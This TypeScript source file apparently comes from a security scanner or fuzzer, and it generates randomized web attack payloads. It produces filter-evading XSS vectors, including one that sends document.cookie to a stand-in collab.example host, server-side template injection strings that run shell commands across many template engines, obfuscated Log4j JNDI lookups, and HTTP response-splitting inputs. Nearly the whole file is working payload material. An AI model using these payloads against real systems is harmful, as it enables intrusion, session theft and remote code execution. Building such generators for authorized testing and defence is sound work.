import type { Payload } from '../attack.ts';
import type { Random } from '../random.ts';

function run(r: Random): string {
  const n = r.int(1000, 9999);
  return r.pick([
    `alert\`${n}\``,
    `top["al"+"ert"](${n})`,
    `eval(atob('${base64(`alert(${n})`)}'))`,
    `self[/*x*/'prompt'](${n})`,
    `import('https://${r.hex(4)}.collab.example/m.js')`,
    `(confirm)(${n})`,
    `[${n}].find(alert)`,
    `navigator.sendBeacon('https://${r.hex(4)}.collab.example',document.cookie)`,
    `setTimeout('ale'+'rt(${n})')`,
  ]);
}

function base64(text: string): string {
  return btoa(text);
}

/** HTML5, mutation and filter-evasion vectors in the style of the cheat sheets for modern browsers. */
export function markup(r: Random): Payload {
  const js = run(r);
  const quoted = js.replaceAll('"', '&quot;');
  return r.pick<() => Payload>([
    () => vector('toggle', `<details open ontoggle="${quoted}">`),
    () => vector('media source', `<${r.pick(['audio', 'video'])}><source onerror="${quoted}">`),
    () =>
      vector(
        'focus',
        `<x contenteditable tabindex=${r.int(1, 9)} onfocus="${quoted}" autofocus id=${r.hex(3)}>`,
      ),
    () => vector('animation', `<svg><animate onbegin="${quoted}" attributeName=x dur=${r.int(1, 9)}s>`),
    () => vector('marquee', `<marquee onstart='${js.replaceAll("'", '&#39;')}'>${r.hex(2)}</marquee>`),
    () =>
      vector(
        'frame document',
        `<iframe srcdoc="&lt;img src=${r.int(1, 9)} onerror=alert(${r.int(100, 999)})&gt;"></iframe>`,
      ),
    () =>
      vector(
        'data object',
        `<object data="data:text/html;base64,${base64(`<script>${js}</script>`)}"></object>`,
      ),
    () =>
      vector('form action', `<form><button formaction="javascript:${quoted}">${r.hex(2)}</button></form>`),
    () =>
      vector(
        'math mutation',
        `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(${r.int(100, 999)})&gt;">`,
      ),
    () => vector('slash as blank', `<img/src='${r.hex(2)}'/onerror='${js.replaceAll("'", '&#39;')}'/>`),
    () =>
      vector(
        'script in svg',
        `<svg><script>${r.pick(['alert&#40;', 'prompt&lpar;'])}${r.int(100, 9999)}${r.pick(['&#41;', '&rpar;'])}</script>`,
      ),
    () => vector('meta refresh', `<meta http-equiv="refresh" content="0;url=javascript:${quoted}">`),
    () => vector('entity colon', `<a href="javascript&colon;${quoted}">${r.hex(3)}</a>`),
    () => vector('entity tab', `<a href="jav&#x09;ascript:${quoted}">${r.hex(2)}`),
    () => vector('unclosed script', `${r.hex(2)}</script><script>${js}//`),
    () =>
      vector(
        'polyglot',
        `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=alert(${r.int(10, 999)}) )//%0D%0A//</stYle/</titLe/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(${r.int(10, 99)})//>`,
      ),
    () => vector('new line in tag', `<img\nsrc=${r.hex(1)}\nonerror\n=\n${js}>`),
    () =>
      vector(
        'pointer event',
        `<div style=position:fixed;inset:0 onpointerrawupdate="${quoted}">${r.hex(2)}</div>`,
      ),
    () =>
      vector(
        'transition event',
        `<style>@keyframes x{}</style><xss style="animation-name:x" onanimationstart="${quoted}"></xss>`,
      ),
    () =>
      vector(
        'embed',
        `<embed src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(${r.int(10, 999)})"/>`)}">`,
      ),
    () => vector('base', `<base href="//${r.hex(4)}.collab.example/"><script src=a.js></script>`),
  ])();
}

function vector(technique: string, text: string): Payload {
  return { technique, text };
}

/** Template engines beyond Jinja and EL, by the syntax of their own documentation. */
export function engine(r: Random): Payload {
  const a = r.int(1011, 9973);
  const b = r.int(1011, 9973);
  const t = r.token(3);
  const cmd = r.pick(['id', 'hostname', 'cat /etc/issue', 'netstat -an']);
  return r.pick<() => Payload>(
    [
      () =>
        vector(
          'freemarker new',
          `<#assign ${t}="freemarker.template.utility.Execute"?new()>\${${t}("${cmd}")}`,
        ),
      () =>
        vector(
          'velocity class',
          `#set($${t}=$class.inspect("java.lang.Runtime").type.getRuntime().exec("${cmd}"))`,
        ),
      () =>
        vector(
          'twig filter',
          `{{_self.env.registerUndefinedFilterCallback("${r.pick(['exec', 'system', 'passthru'])}")}}{{_self.env.getFilter("${cmd}")}}`,
        ),
      () =>
        vector(
          'twig map',
          `{{['${cmd}']|${r.pick(['map', 'filter', 'sort'])}('${r.pick(['system', 'passthru', 'exec'])}')|join('${t}')}}`,
        ),
      () => vector('smarty', `{${r.pick(['system', 'passthru', 'shell_exec'])}('${cmd} #${t}')}`),
      () => vector('jinja cycler', `{{cycler.__init__.__globals__.os.popen('${cmd} ${t}').read()}}`),
      () => vector('jinja lipsum', `{{lipsum.__globals__["os"]["popen"]("${cmd};${t}")["read"]()}}`),
      () =>
        vector(
          'jinja attr',
          `{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('${t}')}}`,
        ),
      () =>
        vector(
          'thymeleaf',
          `__\${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("${cmd}").getInputStream()).next()}__::.${t}`,
        ),
      () => vector('thymeleaf inline', `[[\${${a}*${b}}]]`),
      () => vector('star', `*{${a}*${b}}`),
      () =>
        vector(
          'handlebars',
          `{{#with "${t}" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.push (lookup string.sub "constructor")}}{{/with}}{{/with}}{{/with}}`,
        ),
      () => vector('erb system', `<%= ${r.pick(['system', 'IO.popen', '%x'])}("${cmd} ${t}") %>`),
      () => vector('razor', `@(${a}*${b})`),
      () => vector('ognl', `%{(#${t}=@java.lang.Runtime@getRuntime()).exec('${cmd}')}`),
      () => vector('pug', `#{root.process.mainModule.require('child_process').execSync('${cmd} ${t}')}`),
      () => vector('large product', `{{${a}*${b}}}`),
      () => vector('underscore', `<%= ${a}*${b} %>`),
      () => vector('dollar double', `\${{${a}*${b}}}`),
      () => vector('angular constructor', `{{constructor.constructor('alert(${a})')()}}`),
      () => vector('mako', `<% import os; ${t}=os.popen('${cmd}').read() %>\${${t}}`),
      () => vector('spring header', `T(java.lang.Runtime).getRuntime().exec("${cmd} ${t}")`),
    ].map((make) => () => ({
      ...make(),
      alsoFamilies: ['command-injection', 'xss', 'log4j-lookup'] as const,
    })),
  )();
}

/** Lookups written to slip past filters. */
export function nestedLookup(r: Random): Payload {
  const out = `${r.hex(6)}.collab.example${r.pick(['', ':8443', ':53'])}/${r.token(3)}`;
  const via = r.pick(['ldap', 'rmi', 'dns', 'iiop', 'nis', 'corba', 'nds', 'http']);
  const text = r.pick([
    `\${\${env:${r.token(3)}:-j}ndi\${env:${r.token(3)}:-:}${via}\${env:${r.token(2)}:-:}//${out}}`,
    `\${jn\${upper:d}i:${via}://${out}}`,
    `\${jnd\${sys:${r.token(4)}:-i}:${via}://${out}}`,
    `\${j\${lower:N}di:${via}://127.0.0.1#${out}}`,
    `\${\${date:'j'}\${date:'n'}\${date:'d'}\${date:'i'}:${via}://${out}}`,
    `\${\${what:ever:-j}ndi:${via}://${out}}`,
    `\${jndi:${via}://\${env:${r.pick(['USER', 'HOSTNAME', 'JAVA_VERSION'])}}.${out}}`,
    `\${jndi:\${lower:${via.charAt(0)}}${via.slice(1)}://${out}}`,
    `\${\${::-\${::-j}}ndi:${via}://${out}}`,
    `\${jndi:${via}:\${::-/}/${out}}`,
    `\${ jndi:${via}://${out}}`.replace('${ ', '${'),
  ]);
  return { technique: `nested lookup over ${via}`, text };
}

/** Response splitting with the encodings other than CR LF in upper case. */
export function splitting(r: Random): Payload {
  const t = r.token(4);
  const [technique, end] = r.pick([
    ['line feed only', '%0a'],
    ['line feed and blank', '%0A%20'],
    ['unicode line break', '%E5%98%8A%E5%98%8D'],
    ['double encoded', '%250d%250a'],
    ['percent u', '%u000d%u000a'],
    ['after a hash', '%23%0d%0a'],
    ['carriage return only', '%0d'],
  ] as const);
  const rest = r.pick([
    `Set-Cookie:${t}=${r.hex(3)};Path=/`,
    `X-Injected-${t}:%20yes`,
    `Content-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a${t}`,
    `Access-Control-Allow-Origin:%20https://${r.hex(4)}.collab.example`,
    `Location:%20//${r.hex(4)}.collab.example/%2f..`,
  ]);
  return { technique, text: `${r.pick(['', '/', 'x', 'de'])}${t}${end}${rest}`, wire: true };
}
